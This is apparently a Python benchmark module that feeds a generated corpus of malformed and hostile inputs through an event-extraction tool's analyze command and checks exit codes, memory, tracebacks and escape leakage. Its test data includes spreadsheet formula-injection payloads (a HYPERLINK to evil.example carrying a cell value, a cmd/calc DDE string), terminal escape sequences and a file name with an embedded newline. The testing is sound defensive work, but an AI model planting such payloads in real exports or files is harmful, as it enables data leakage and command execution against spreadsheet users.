"""Benchmark: a generated corpus of hostile inputs through the real `eventfuse analyze`, one process per input.

Hands on, per input, its exit status and line, seconds and peak memory; then the rows stored before and after
all inputs are given again in one batch (nothing lost, nothing duplicated), the tracebacks and escape sequences
printed (none), and the CSV and ACLED cells that would start a formula (none). The corpus is made here, from a
seed, never read from disk: ``corpus`` is what the tests read too.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import random
import re
import sqlite3
import subprocess
import sys
import tempfile
import time
from collections.abc import Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from ..pipeline import MAX_ARTICLE_CHARS

DATA_DIR = "hostile"  # not read: the corpus is generated (``--data`` is ignored)
ANCHORS: dict[str, str] = {
    "tracebacks": "target: 0 (issue 20)",
    "rows_lost": "target: 0",
    "rows_duplicated": "target: 0",
    "unexpected": "target: 0 (every input handled as expected)",
    "escape_sequences_printed": "target: 0",
    "formula_cells": "target: 0",
    "three_writers.exits": "target: all 0, no deadlock, each article processed once (issue 29)",
    "one_line_1mb.seconds": "target: < 10 (issue 20)",
    "one_line_1mb.peak_mb": "target: < 500 (issue 20)",
}
PUBLISHED = "2025-04-14"
SENTENCE = "Clashes broke out in Beledweyne on Monday, killing five soldiers, officials said. "
GOOD = (
    "Five rockets struck the Balad air base in Iraq on Saturday, a military spokesman said. "
    "Two soldiers were wounded in the attack, police said."
)
NEWS_WORDS = (
    "gunmen attacked the village near the market killing several farmers police said on monday while soldiers "
    "arrived after the clashes in the north of the district officials reported that residents fled"
).split()
# What a terminal acts on: clear the screen, set the window title, a one-byte CSI, reverse the line.
ESCAPES = "\x1b[2J\x1b[H", "\x1b]0;pwned\x07", "\x9b31m", "\u202e"
FORMULAS = '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1"
# Tables whose rows a rerun of the same inputs must leave as they are.
TABLES = ("articles", "removed_lines", "mentions", "claims", "events", "event_mentions", "event_history")


@dataclass(frozen=True)
class HostileInput:
    """One bad input: ``key`` names it in the figures; ``files`` are written under the corpus directory (the
    first is the input given to analyze); ``expect`` is what analyze must do with it."""

    key: str
    what: str
    files: dict[str, bytes]
    expect: str  # "stored" (every article in it stored), "rejected" (some part rejected), "failed"
    stored: int = 0  # articles it holds that are stored and processed
    lines: int = 0  # rejected and failed lines it gives (one per bad record)

    @property
    def name(self) -> str:
        return next(iter(self.files))


def _one_line(chars: int, seed: int = 1) -> str:
    rng = random.Random(seed)
    words: list[str] = []
    size = 0
    while size < chars:
        words.append(rng.choice(NEWS_WORDS))
        size += len(words[-1]) + 1
    return " ".join(words)[:chars]


def _warc() -> bytes:
    record = b"WARC/1.0\r\nWARC-Type: warcinfo\r\nContent-Length: 0\r\n\r\n\r\n\r\n"
    return gzip.compress(record, mtime=0)


def corpus(max_chars: int = MAX_ARTICLE_CHARS) -> list[HostileInput]:
    """The hostile inputs, sized against ``max_chars`` (the characters analysed per article): the bench uses the
    default, where the texts over it are the issue's (1,229,999 and 1,000,000 characters); the tests a small one."""
    rng = random.Random(20)
    noise = bytes(rng.randrange(256) for _ in range(60_000))
    over = SENTENCE * (max_chars * 3 // 20)  # the 15,000 sentences (1,229,999 characters) at the default
    items = [
        HostileInput(
            "one_line_1mb",
            "1 MB on one line, no punctuation (item 4)",
            {"one_line_1mb.txt": _one_line(max_chars * 10).encode()},
            "failed",
            lines=1,
        ),
        HostileInput(
            "over_model_limit",
            "a text over spaCy's max_length (item 1)",
            {"over_model_limit.txt": (over.strip() + "\n").encode()},
            "failed",
            lines=1,
        ),
        HostileInput(
            "one_line_under_limit",
            "the longest one-line text analysed (in pieces)",
            {"one_line_under.txt": _one_line(max_chars * 99 // 100, 2).encode()},
            "stored",
            stored=1,
        ),
        HostileInput(
            "dense_under_limit",
            "the longest dense text analysed: a report in every sentence",
            {"dense_under.txt": (SENTENCE * (max_chars // len(SENTENCE))).encode()},
            "stored",
            stored=1,
        ),
        HostileInput(
            "no_spaces_under_limit",
            "one word as long as an article",
            {"no_spaces.txt": b"x" * (max_chars * 9 // 10)},
            "stored",
            stored=1,
        ),
        HostileInput(
            "nested_json",
            "[ nested 100,000 deep (item 2)",
            {"nested.json": b"[" * 100_000 + b"]" * 100_000},
            "rejected",
            lines=1,
        ),
        HostileInput(
            "nested_jsonl_line",
            "one JSON Lines record nested deep, one good",
            {
                "nested_lines.jsonl": b'{"text": '
                + b"[" * 50_000
                + b"]" * 50_000
                + b"}\n"
                + json.dumps({"text": GOOD + " Jsonl."}).encode()
            },
            "rejected",
            stored=1,
            lines=1,
        ),
        HostileInput(
            "lone_surrogate",
            "a lone surrogate escape in text and title (item 3)",
            {
                "surrogate.jsonl": b'{"text": "A bomb killed 9 in Baidoa \\ud800 on Sunday, police said.", "title": "\\udfff"}\n'
            },
            "stored",
            stored=1,
        ),
        HostileInput(
            "nul_after_8kb",
            "NUL bytes after the first 8 KB (item 9)",
            {"nul_after_8kb.txt": ((GOOD + "\n\n") * 70).encode() + b"Three\x00 more were\x00 hurt."},
            "stored",
            stored=1,
        ),
        HostileInput(
            "binary_after_text",
            "binary data after a text head",
            {"binary_after_text.txt": ((GOOD + "\n\n") * 70).encode() + noise},
            "rejected",
            lines=1,
        ),
        HostileInput("random_bytes", "random bytes named .txt", {"random.txt": noise[:5000]}, "rejected", lines=1),
        HostileInput(
            "navigation_only",
            "an HTML page of navigation only (item 9)",
            {"navigation.html": b"<html><body><nav><a href=/>Home</a> | <a href=/about>About</a></nav></body></html>"},
            "rejected",
            lines=1,
        ),
        HostileInput(
            "deep_html",
            "HTML nested 100,000 deep",
            {
                "deep.html": b"<html><body>"
                + b"<div>" * 100_000
                + GOOD.encode()
                + b"</div>" * 100_000
                + b"</body></html>"
            },
            "rejected",
            lines=1,
        ),
        HostileInput(
            "utf16le_no_bom",
            "UTF-16 LE without a BOM (item 10)",
            {"utf16le.txt": (GOOD + " UTF-16 LE — “quoted”.").encode("utf-16-le")},
            "stored",
            stored=1,
        ),
        HostileInput(
            "utf16be_no_bom",
            "UTF-16 BE without a BOM",
            {"utf16be.txt": (GOOD + " UTF-16 BE — “quoted”.").encode("utf-16-be")},
            "stored",
            stored=1,
        ),
        HostileInput(
            "mixed_encodings",
            "UTF-8 lines and Windows-1252 lines (item 10)",
            {"mixed.txt": (GOOD + " “UTF-8”.\n").encode() + "The army’s café was hit.\n".encode("cp1252")},
            "stored",
            stored=1,
        ),
        HostileInput(
            "warc_to_analyze",
            "a web archive given to analyze (item 10)",
            {"crawl.warc.gz": _warc()},
            "rejected",
            lines=1,
        ),
        HostileInput(
            "file_name_escapes",
            "a file name with a newline and ESC (item 6)",
            {f"evil\nrejected other.txt{ESCAPES[0]}.txt": b""},
            "rejected",
            lines=1,
        ),
        HostileInput(
            "outlet_formula",
            "outlets that start spreadsheet formulas (item 5)",
            {
                "formula.txt": (GOOD + " Formula.").encode(),
                "formula.meta.json": json.dumps(
                    {"outlet": FORMULAS[0], "title": FORMULAS[1], "published": PUBLISHED}
                ).encode(),
            },
            "stored",
            stored=1,
        ),
        HostileInput(
            "outlet_escapes",
            "an outlet and a quote with terminal escapes (item 6)",
            {
                "escapes.txt": (GOOD + f" Escape{ESCAPES[0]}d.{ESCAPES[2]}").encode(),
                "escapes.meta.json": json.dumps(
                    {"outlet": "Evil" + "".join(ESCAPES) + "Wire", "published": PUBLISHED}
                ).encode(),
            },
            "stored",
            stored=1,
        ),
        HostileInput(
            "control_characters",
            "BEL, BS, CR and bidi overrides in the text",
            {"controls.txt": (GOOD.replace("rockets", "roc\x08kets\x07") + "\r\nCR\rlines \u202eevil\u202c.").encode()},
            "stored",
            stored=1,
        ),
        HostileInput("empty", "an empty file", {"empty.txt": b""}, "rejected", lines=1),
        HostileInput("whitespace", "white space only", {"blank.txt": b" \n\t\r\n" * 1000}, "rejected", lines=1),
        HostileInput(
            "json_wrong_types",
            "records that are not articles beside a good one",
            {
                "types.json": json.dumps(
                    [
                        {"text": 5},
                        {"text": ["a"]},
                        "text",
                        None,
                        {"title": "no text"},
                        {"text": GOOD + " Types.", "published": "99999-99-99", "outlet": 1e308},
                    ]
                ).encode()
            },
            "rejected",
            stored=1,
            lines=5,
        ),
        HostileInput(
            "bad_sidecar",
            "a sidecar that is not JSON",
            {"sidecar.txt": (GOOD + " Sidecar.").encode(), "sidecar.meta.json": b'{"outlet": '},
            "rejected",
            lines=1,
        ),
        HostileInput(
            "far_dates",
            "reports dated 0001-01-01 (a feed's zero time) and 9999-12-31 before a good one (issue 29)",
            {
                "far_dates.json": json.dumps(
                    [
                        {"text": GOOD + " Zero time.", "published": "0001-01-01T00:00:00Z"},
                        {"text": GOOD + " Far future.", "published": "9999-12-31"},
                        {"text": GOOD + " After them.", "published": "2025-04-14"},
                    ]
                ).encode()
            },
            "rejected",
            stored=1,
            lines=2,
        ),
        HostileInput(
            "far_date_sidecar",
            "a sidecar dating its report 1899 (issue 29)",
            {"old.txt": (GOOD + " Old.").encode(), "old.meta.json": b'{"published": "1899-12-31"}'},
            "rejected",
            lines=1,
        ),
        HostileInput(
            "empty_json_array",
            "a JSON file holding [] (issue 29)",
            {"empty_array.json": b"[]"},
            "rejected",
            lines=1,
        ),
        HostileInput(
            "many_blank_lines",
            "one sentence after 200,000 blank lines",
            {"blank_lines.txt": b"\n" * 200_000 + (GOOD + " Lines.").encode()},
            "stored",
            stored=1,
        ),
        HostileInput(
            "zero_width",
            "zero-width characters inside words",
            {"zero_width.txt": (GOOD.replace("o", "o\u200b") + " Zero.").encode()},
            "stored",
            stored=1,
        ),
        HostileInput(
            "script_html",
            "scripts, styles and comments around a short report",
            {
                "script.html": (
                    "<html><head><script>"
                    + "x=1;" * 5000
                    + "</script><style>p{}</style></head><body><!--"
                    + "c" * 5000
                    + f"--><article><p>{GOOD} Script.</p></article></body></html>"
                ).encode()
            },
            "stored",
            stored=1,
        ),
    ]
    return items


@dataclass
class Outcome:
    """What one `eventfuse analyze` process did: exit status, its rejected/failed lines, time, memory, output."""

    status: int
    lines: list[str]
    last_line: str
    seconds: float
    peak_mb: float
    tracebacks: int
    escapes: int
    output: str = field(repr=False, default="")


def write_corpus(directory: Path, items: Sequence[HostileInput]) -> list[Path]:
    """Write each input's files; returns the paths given to analyze, in order."""
    directory.mkdir(parents=True, exist_ok=True)
    for item in items:
        for name, content in item.files.items():
            (directory / name).write_bytes(content)
    return [directory / item.name for item in items]


def analyze(paths: Sequence[Path], db: Path, max_chars: int, env: dict[str, str]) -> Outcome:
    """`eventfuse analyze PATHS` in its own process, timed, its peak memory read from the kernel (wait4)."""
    command = [sys.executable, "-c", "from eventfuse.cli import app; app()", "analyze", *map(str, paths)]
    command += ["--db", str(db), "--published", PUBLISHED, "--workers", "1", "--max-chars", str(max_chars)]
    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
        started = time.perf_counter()
        process = subprocess.Popen(command, stdout=out, stderr=err, env=env)
        _, status, usage = os.wait4(process.pid, 0)
        seconds = time.perf_counter() - started
        process.returncode = os.waitstatus_to_exitcode(status)  # reaped here: Popen must not wait again
        out.seek(0)
        err.seek(0)
        output = out.read().decode("utf-8", "replace") + err.read().decode("utf-8", "replace")
    lines = [line for line in output.splitlines() if line.startswith(("rejected ", "failed "))]
    last = next((line for line in reversed(output.splitlines()) if line.strip()), "")
    return Outcome(
        status=process.returncode,
        lines=lines,
        last_line=lines[0] if lines else last,
        seconds=seconds,
        peak_mb=usage.ru_maxrss / 1024,  # kilobytes on Linux
        tracebacks=output.count("Traceback (most recent call last)"),
        escapes=sum(output.count(c) for c in ("\x1b", "\x9b", "\u202e", "\x07")),
        output=output,
    )


def stored_counts(db: Path) -> dict[str, int]:
    """Rows per table, and articles per status."""
    with sqlite3.connect(db) as connection:
        counts = {table: connection.execute(f"SELECT COUNT(*) FROM {table}").fetchone()[0] for table in TABLES}
        for status, count in connection.execute("SELECT status, COUNT(*) FROM articles GROUP BY status"):
            counts[f"articles_{status}"] = count
    connection.close()
    return counts


def formula_cells(db: Path, env: dict[str, str]) -> int:
    """CSV and ACLED cells that start as a spreadsheet formula would (=, +, -, @, tab, CR)."""
    import csv

    found = 0
    for fmt in ("csv", "acled"):
        command = [sys.executable, "-c", "from eventfuse.cli import app; app()", "export", "--format", fmt]
        text = subprocess.run(command + ["--db", str(db)], capture_output=True, text=True, env=env, check=True).stdout
        for row in list(csv.reader(io.StringIO(text, newline="")))[1:]:
            found += sum(1 for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r"))
    return found


PG_SERVER = os.environ.get("EVENTFUSE_BENCH_PG", "postgresql://postgres@127.0.0.1:5432/postgres")
EXAMPLES_DIR = Path(__file__).resolve().parents[2] / "examples"


def three_writers(root: Path, env: dict[str, str], writers: int = 3, copies: int = 2) -> dict[str, Any]:
    """Three `eventfuse run` at once on one PostgreSQL database (made here and dropped; ``$EVENTFUSE_BENCH_PG``
    names the server) over the examples and ``copies`` retellings of each: their exit statuses, and the articles
    processed against those stored (issue 29: with three writers one died of a deadlock)."""
    import psycopg

    try:
        admin = psycopg.connect(PG_SERVER, autocommit=True, connect_timeout=3)
    except psycopg.OperationalError as err:
        return {"skipped": f"no PostgreSQL server at {PG_SERVER}: {' '.join(str(err).split())[:120]}"}
    name = f"eventfuse_hostile_{os.getpid()}"
    admin.execute(f'CREATE DATABASE "{name}"')
    try:
        url = PG_SERVER.rsplit("/", 1)[0] + "/" + name
        inputs = root / "writers"
        inputs.mkdir()
        for report in sorted(EXAMPLES_DIR.glob("*.txt")):
            meta = report.with_name(report.stem + ".meta.json")
            for copy in range(copies):
                (inputs / f"{report.stem}_{copy}.txt").write_text(report.read_text() + f"\n\nUpdate {copy}.\n")
                (inputs / f"{report.stem}_{copy}.meta.json").write_text(meta.read_text())
        eventfuse = [sys.executable, "-m", "eventfuse"]
        subprocess.run([*eventfuse, "ingest", str(EXAMPLES_DIR), str(inputs), "--db", url, "-q"], env=env, check=True)
        runs = [
            subprocess.Popen(
                [*eventfuse, "run", "--db", url, "--batch-size", "2"], stderr=subprocess.PIPE, text=True, env=env
            )
            for _ in range(writers)
        ]
        outputs = [run.communicate()[1] for run in runs]
        processed = sum(int(n) for out in outputs for n in re.findall(r"(\d+) articles processed", out))
        with psycopg.connect(url) as conn:
            stored = conn.execute("SELECT count(*), count(*) FILTER (WHERE status = 'processed') FROM articles")
            articles, done = stored.fetchone() or (0, 0)
        return {
            "writers": writers,
            "exits": [run.returncode for run in runs],
            "articles": articles,
            "processed": done,
            "processed_by_writers": processed,
            "deadlocks": sum(out.count("deadlock") for out in outputs),
        }
    finally:
        admin.execute(f'DROP DATABASE "{name}" WITH (FORCE)')
        admin.close()


def expected(item: HostileInput, outcome: Outcome) -> bool:
    """Whether analyze did with the input what it must: exit 0 when all of it is stored, else exit 1 with one
    line per bad record, and no traceback."""
    status = 0 if item.expect == "stored" else 1
    kind = "failed " if item.expect == "failed" else "rejected "
    right_lines = len(outcome.lines) == item.lines and all(line.startswith(kind) for line in outcome.lines)
    return outcome.status == status and right_lines and outcome.tracebacks == 0


def run(data_dir: Path, *, limit: int | None = None) -> dict[str, Any]:
    """Each input through its own `eventfuse analyze` into one store, then all of them again in one batch."""
    items = corpus()[:limit] if limit else corpus()
    figures: dict[str, Any] = {"inputs": len(items)}
    with tempfile.TemporaryDirectory(prefix="eventfuse-hostile-") as tmp:
        root = Path(tmp)
        paths = write_corpus(root / "corpus", items)
        db = root / "hostile.db"
        env = {**os.environ, "EVENTFUSE_LOG": str(root / "eventfuse.log"), "COLUMNS": "200"}
        outcomes: dict[str, Any] = {}
        unexpected = tracebacks = escapes = 0
        for item, path in zip(items, paths, strict=True):
            outcome = analyze([path], db, MAX_ARTICLE_CHARS, env)
            outcome.last_line = outcome.last_line.replace(f"{root / 'corpus'}/", "")  # the input's own name
            good = expected(item, outcome)
            unexpected += not good
            tracebacks += outcome.tracebacks
            escapes += outcome.escapes
            outcomes[item.key] = {
                "exit": outcome.status,
                "seconds": round(outcome.seconds, 2),
                "peak_mb": round(outcome.peak_mb),
                "as_expected": good,
                "line": outcome.last_line[:160],
            }
            sys.stderr.write(
                f"{item.key:24} exit {outcome.status}  {outcome.seconds:6.2f} s  {outcome.peak_mb:6.0f} MB  "
                f"{'ok ' if good else 'UNEXPECTED '} {outcome.last_line[:110]!r}\n"
            )
            sys.stderr.flush()
        before = stored_counts(db)
        rerun = analyze(paths, db, MAX_ARTICLE_CHARS, env)  # every input again, in one batch
        after = stored_counts(db)
        tracebacks += rerun.tracebacks
        escapes += rerun.escapes
        figures["rerun"] = {
            "exit": rerun.status,
            "seconds": round(rerun.seconds, 2),
            "peak_mb": round(rerun.peak_mb),
            "lines": len(rerun.lines),
            "lines_expected": sum(item.lines for item in items),
        }
        figures["formula_cells"] = formula_cells(db, env)
        if limit is None:
            figures["three_writers"] = three_writers(root, env)
    figures["handled"] = len(items) - unexpected
    figures["unexpected"] = unexpected
    figures["tracebacks"] = tracebacks
    figures["escape_sequences_printed"] = escapes
    keys = sorted(set(before) | set(after))
    figures["rows_lost"] = sum(max(0, before.get(k, 0) - after.get(k, 0)) for k in keys if k in TABLES)
    figures["rows_duplicated"] = sum(max(0, after.get(k, 0) - before.get(k, 0)) for k in keys if k in TABLES)
    figures["stored_before_rerun"] = before
    figures["stored_after_rerun"] = after
    figures.update(outcomes)
    return figures
